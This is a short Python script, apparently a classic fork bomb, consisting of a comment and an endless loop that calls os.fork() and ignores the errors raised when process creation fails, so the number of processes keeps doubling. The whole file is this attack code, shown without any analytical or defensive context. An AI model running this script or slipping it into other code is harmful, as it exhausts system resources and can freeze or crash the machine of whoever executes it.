# Doubles its processes as long as it is let.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
